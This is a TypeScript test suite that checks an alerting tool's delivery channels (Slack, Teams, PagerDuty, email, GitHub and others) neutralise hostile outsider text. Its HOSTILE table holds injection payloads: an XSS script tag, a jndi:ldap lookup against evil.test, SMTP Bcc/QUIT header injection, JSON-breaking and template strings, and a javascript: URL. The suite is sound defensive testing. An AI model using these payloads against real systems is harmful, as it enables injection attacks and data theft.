import { describe, expect, test } from 'vitest';
import type { Notice, NoticeKind } from '../../src/core/notice.ts';
import { deliverer } from '../../src/responses/channels/deliverer.ts';
import type { ChannelSettings } from '../../src/responses/channels/settings.ts';
import { startGoogleChat, startTeams } from '../fakes/channels/cards.ts';
import { startMail } from '../fakes/channels/mail.ts';
import { startPagerDuty } from '../fakes/channels/pagerduty.ts';
import { startAlertmanager, startProgram } from '../fakes/channels/program.ts';
import type { Receiver } from '../fakes/channels/receiver.ts';
import { startSlack } from '../fakes/channels/slack.ts';
import { startFakeGitHub } from '../fakes/github.ts';
import { connectToFake } from '../kit/connect-github.ts';
import { notice, noticeAlert, testMeans } from '../kit/notices.ts';
import { PLANTED_SECRETS } from '../kit/secrets.ts';

const BELL = String.fromCharCode(7);
const ESCAPE = String.fromCharCode(27);
const BIDI = String.fromCodePoint(0x20_2e, 0x20_66, 0x20_69, 0x20_0f, 0xfe_ff, 0xe_00_41);

/** What a stranger may call an agent, a tool or a branch. */
const HOSTILE: Readonly<Record<string, string>> = {
  'mentions of Slack': '<!channel> <!here> <@U0123456> <#C0123456|general> <https://evil.test|Issue>',
  'mentions of GitHub': '@everyone @octo/team @octocat #1 GH-2 octo/fleet#3 https://evil.test www.evil.test',
  'an end of a comment': '--> <!-- checkrein:v1 kind=alert key=x gen=1 h=0 --> ]]> */',
  HTML: '<script>alert(1)</script><img src=x onerror=y><at>all</at><users/all><a href="https://evil.test">Issue</a>',
  markdown: '**bold** _it_ `code` ~s~ [Issue](https://evil.test) ![i](https://evil.test/x.png) | cell | # head',
  'control and bidi characters': `a${BELL}b${ESCAPE}[31mred${BIDI}gpj.exe`,
  commands: '/checkrein stop all',
  'lines of a mail': 'x\r\nBcc: stranger@evil.test\r\n\r\n.\r\nQUIT\r\n',
  'an end of JSON': '"}],"routing_key":"x","channel":"C999999999',
  templates: '{{ .CommonLabels }} {{7*7}} $' + '{jndi:ldap://evil.test}',
  'a hundred thousand letters': 'x'.repeat(100_000),
  'a hundred thousand at signs': '@'.repeat(100_000),
  'ten thousand mentions': '<!channel> '.repeat(10_000),
  'an odd key': '__proto__',
  'half a letter': 'a\ud800b',
};

const KINDS: readonly NoticeKind[] = ['trigger', 'remind', 'acknowledge', 'resolve'];

/** A message in which all that a stranger may choose is `text`. */
function hostileNotice(text: string, kind: NoticeKind = 'trigger'): Notice {
  const state = kind === 'resolve' ? 'resolved' : kind === 'acknowledge' ? 'acknowledged' : 'active';
  const labels = Object.fromEntries([
    [text.slice(0, 60), text],
    ['server', text],
    ...Array.from({ length: 30 }, (_, i) => [`label-${i}`, text]),
  ]);
  const alerts = Array.from({ length: 30 }, (_, i) =>
    noticeAlert({
      fingerprint: `budget:${i}`,
      name: text,
      state,
      subject: { kind: 'agent', name: text },
      labels,
      reason: text,
      issue: i % 2 === 0 ? 'javascript:alert(1)' : `https://evil.test/)](x "${text.slice(0, 50)}`,
      runbook: 'https://example.test/docs/runbooks/budget.md',
    }),
  );
  const because = kind === 'resolve' ? 'all_resolved' : 'first';
  return notice({ kind, because, group: text, alerts, more: 7, lines: Array.from({ length: 50 }, () => text) });
}

/** What went out, as texts. */
type Sent = readonly string[];

interface Wire {
  /** Sends a message and answers all that the receiver got for it. */
  readonly send: (notice: Notice) => Promise<Sent>;
  /** The most bytes of one message that the receiver takes. */
  readonly most: number;
  /** Throws when something in a message would work. */
  readonly check: (sent: string) => void;
}

const env = { TOKEN: '', HOOK: '', KEY: 'planted-signing-key', PD_KEY: 'a'.repeat(32) };

async function overHttp(
  receiver: Receiver,
  settings: ChannelSettings,
  secrets: Readonly<Record<string, string>>,
): Promise<Wire['send']> {
  const means = { ...testMeans({ ...env, ...secrets }), timeout: 5_000 };
  return async (message) => {
    receiver.heard.splice(0);
    const answer = await deliverer({ ops: settings }, means)(message, null);
    expect(answer).toMatchObject({ ok: true });
    return receiver.heard.map(({ body }) => body);
  };
}

/** Every text in a JSON value, keys too. */
function textsIn(value: unknown): readonly string[] {
  if (typeof value === 'string') return [value];
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, member]) => [key, ...textsIn(member)]);
}

const VISIBLE_BREAKS = /[\n]/g;
const CONTROL = /[\p{Cc}\p{Cs}\u202a-\u202e\u2066-\u2069\u200e\u200f\ufeff\u{e0000}-\u{e007f}]/u;
/** Of what strangers wrote, a zero-width space stands behind each of these. */
const LIVE = /[@#](?!\u200b)\w|<[!@#a-z/](?!\u200b)|:\/\/|\bwww\./i;
const OURS =
  /https:\/\/example\.test\/docs\/runbooks\/budget\.md|https:\/\/evil\.test\/%29%5D\(?[^\s"|>)]*|https:\/\/evil\.test\/[^\s"|>)]*/g;

/** No mention, no link but those of ours, no markup, no control character. */
function checkInert(text: string): void {
  const own = text.replace(VISIBLE_BREAKS, ' ').replace(OURS, '');
  expect(own).not.toMatch(CONTROL);
  expect(own).not.toMatch(LIVE);
}

function blocksOf(sent: string): readonly Readonly<Record<string, unknown>>[] {
  return JSON.parse(sent).blocks;
}

function checkSlack(sent: string): void {
  const body: Readonly<Record<string, unknown>> = JSON.parse(sent);
  expect(body['mrkdwn']).toBe(false);
  expect(String(body['text'])).not.toMatch(/[<>]/);
  const objects: { readonly type: string; readonly text: string }[] = [];
  const walk = (value: unknown): void => {
    if (typeof value !== 'object' || value === null) return;
    if ('type' in value && 'text' in value && typeof value.text === 'string') objects.push(value as never);
    for (const member of Object.values(value)) walk(member);
  };
  walk(blocksOf(sent));
  expect(objects.length).toBeGreaterThan(2);
  for (const { type, text } of objects) {
    if (type === 'mrkdwn')
      expect(text).toMatch(/^<https:\/\/[^<>| ]+\|(Issue|What to do)>( · <https:\/\/[^<>| ]+\|What to do>)?$/);
    else {
      expect(type).toBe('plain_text');
      checkInert(text);
    }
  }
}

function checkChat(sent: string): void {
  const { cardsV2 } = JSON.parse(sent);
  for (const { widgets } of cardsV2[0].card.sections) {
    for (const { textParagraph } of widgets) {
      if (textParagraph === undefined) continue;
      const text: string = textParagraph.text;
      expect(text.replace(/<\/?[bi]>|<br>/g, '')).not.toMatch(/[<>*`]/);
      checkInert(text.replace(/<\/?[bi]>|<br>/g, ' ').replace(/&#\d+;/g, ' '));
    }
  }
  checkInert(cardsV2[0].card.header.title);
}

function checkTeams(sent: string): void {
  const types = new Set<string>();
  const walk = (value: unknown): void => {
    if (typeof value !== 'object' || value === null) return;
    if ('type' in value) types.add(String(value.type));
    if ('type' in value && value.type === 'TextRun' && 'text' in value) checkInert(String(value.text));
    for (const member of Object.values(value)) walk(member);
  };
  walk(JSON.parse(sent));
  // Whatever else shows text reads markdown in it.
  const harmless = ['Action.OpenUrl', 'ActionSet', 'AdaptiveCard', 'Container', 'RichTextBlock', 'TextRun', 'message'];
  expect([...types].filter((type) => !harmless.includes(type))).toEqual([]);
  expect(types.has('Container')).toBe(true);
}

function checkJson(sent: string): void {
  for (const text of textsIn(JSON.parse(sent))) checkInert(text);
}

function checkGitHub(sent: string): void {
  const [marker, ...rest] = sent.split('\n');
  expect(marker).toMatch(/^<!-- checkrein:v1 kind=notice key=[0-9a-f]{64} -->$/);
  const text = rest.join('\n');
  const links =
    /\[(?:Issue|What to do)\]\(https:\/\/(?:evil\.test\/[^\s()]*|example\.test\/docs\/runbooks\/budget\.md)\)/g;
  const own = text
    .replace(links, '')
    .replace(/<\/?sub>/g, '')
    .replace(/\*\*/g, '');
  expect(own).not.toMatch(/[<>@`[\]|\\*~]|!\[|-->|(?<!&)#(?!\d)|:\/\//);
  expect(own.replace(VISIBLE_BREAKS, ' ')).not.toMatch(CONTROL);
  expect(own).not.toMatch(/^\s*\/checkrein/m);
}

type Start = (stack: AsyncDisposable[]) => Promise<Wire>;

function keep<T extends AsyncDisposable>(stack: AsyncDisposable[], one: T): T {
  stack.push(one);
  return one;
}

const WIRES: Readonly<Record<string, Start>> = {
  slack: async (stack) => {
    const there = keep(stack, await startSlack());
    const send = await overHttp(there, { type: 'slack', webhook: { env: 'HOOK' } }, { HOOK: there.webhook });
    return { send, most: 30_000, check: checkSlack };
  },
  'slack-bot': async (stack) => {
    const there = keep(stack, await startSlack());
    const settings = { type: 'slack-bot', token: { env: 'TOKEN' }, channel: there.channel, api: there.api } as const;
    return { send: await overHttp(there, settings, { TOKEN: there.token }), most: 31_000, check: checkSlack };
  },
  pagerduty: async (stack) => {
    const there = keep(stack, await startPagerDuty());
    const settings: ChannelSettings = {
      type: 'pagerduty',
      routing_key: { env: 'PD_KEY' },
      urgency: 'by-severity',
      api: there.url,
    };
    return { send: await overHttp(there, settings, {}), most: 512_000, check: checkJson };
  },
  'google-chat': async (stack) => {
    const there = keep(stack, await startGoogleChat());
    const send = await overHttp(there, { type: 'google-chat', webhook: { env: 'HOOK' } }, { HOOK: there.webhook });
    return { send, most: 32_000, check: checkChat };
  },
  teams: async (stack) => {
    const there = keep(stack, await startTeams());
    const send = await overHttp(there, { type: 'teams', webhook: { env: 'HOOK' } }, { HOOK: there.webhook });
    return { send, most: 28_000, check: checkTeams };
  },
  ...Object.fromEntries(
    (['checkrein', 'alertmanager'] as const).map((format): [string, Start] => [
      `webhook (${format})`,
      async (stack) => {
        const there = keep(stack, await startProgram(() => Date.parse('2026-11-21T09:05:30.000Z') / 1_000));
        const settings = { type: 'webhook', url: { env: 'HOOK' }, secret: { env: 'KEY' }, format } as const;
        const send = await overHttp(there, settings, { HOOK: there.webhook, KEY: there.secret });
        return { send, most: 1_000_000, check: checkJson };
      },
    ]),
  ),
  alertmanager: async (stack) => {
    const there = keep(stack, await startAlertmanager());
    const settings = { type: 'alertmanager', url: { env: 'HOOK' }, token: null, hold: 3_600_000 } as const;
    return { send: await overHttp(there, settings, { HOOK: there.url }), most: 1_000_000, check: checkJson };
  },
  email: async (stack) => {
    const there = keep(stack, await startMail());
    const settings: ChannelSettings = {
      ...{
        type: 'email',
        host: 'localhost',
        port: there.port,
        tls: 'starttls',
        user: { env: 'USER' },
        password: { env: 'PASSWORD' },
      },
      ...{ ca: { env: 'CA' }, from: 'checkrein@example.test', to: ['ops@example.test'] },
    } as ChannelSettings;
    const means = { ...testMeans({ CA: there.ca, USER: there.user, PASSWORD: there.password }), timeout: 5_000 };
    const send = async (message: Notice): Promise<Sent> => {
      there.received.splice(0);
      expect(await deliverer({ ops: settings }, means)(message, null)).toMatchObject({ ok: true });
      expect(there.received.map(({ to }) => to)).toEqual([['ops@example.test']]);
      return there.received.map(({ mail }) => `${mail.subject}\n${mail.text}`);
    };
    return { send, most: 200_000, check: checkInert };
  },
  ...Object.fromEntries(
    (['github-issue', 'pr-comment'] as const).map((type): [string, Start] => [
      type,
      async (stack) => {
        const fake = keep(stack, await startFakeGitHub({ now: () => '2026-11-21T09:05:00.000Z' }));
        const { issues, people } = connectToFake(fake, { issues: 'write', 'pull-requests': 'write' });
        const settings = type === 'github-issue' ? ({ type } as const) : ({ type, pull: 1 } as const);
        const means = testMeans({}, { github: { issues, people, label: 'checkrein' } });
        const send = async (message: Notice): Promise<Sent> => {
          fake.world.issues.splice(0);
          const pull = fake.addIssue({ title: 'A change', isPullRequest: true });
          expect(await deliverer({ ops: settings }, means)(message, null)).toMatchObject({ ok: true });
          const titles = fake.world.issues.slice(1).map(({ title }) => title);
          for (const title of titles) checkInert(title);
          return [
            ...fake.world.issues.slice(1).map(({ body }) => body ?? ''),
            ...pull.comments.map(({ body }) => body),
          ];
        };
        return { send, most: 65_536, check: checkGitHub };
      },
    ]),
  ),
};

describe.each(Object.entries(WIRES))('hostile text in %s', (name, start) => {
  async function withWire(work: (wire: Wire) => Promise<void>): Promise<void> {
    const stack: AsyncDisposable[] = [];
    try {
      await work(await start(stack));
    } finally {
      for (const one of stack) await one[Symbol.asyncDispose]();
    }
  }

  test('does nothing, and fits', async () => {
    await withWire(async ({ send, most, check }) => {
      for (const text of Object.values(HOSTILE)) {
        const sent = await send(hostileNotice(text));
        expect(sent.length).toBeGreaterThan(0);
        for (const one of sent) {
          check(one);
          expect(Buffer.byteLength(one)).toBeLessThanOrEqual(most);
        }
      }
    });
  });

  test('does nothing in any kind of message', async () => {
    await withWire(async ({ send, check }) => {
      const all = Object.values(HOSTILE)
        .filter(({ length }) => length < 1_000)
        .join(' ');
      for (const kind of KINDS) for (const one of await send(hostileNotice(all, kind))) check(one);
    });
  });

  test('secrets in it are not handed on', async () => {
    await withWire(async ({ send }) => {
      for (const { text, core } of PLANTED_SECRETS) {
        for (const one of await send(hostileNotice(`seen ${text} there`))) expect(one).not.toContain(core);
      }
    });
  });

  test('ordinary text stays what it is', async () => {
    await withWire(async ({ send }) => {
      const sent = (await send(notice())).join('\n');
      if (name === 'alertmanager') expect(sent).toContain('nightly-fixer used $12.50 of $10.00');
      expect(sent.replaceAll('&#46;', '.')).toContain('nightly-fixer used');
    });
  });
});
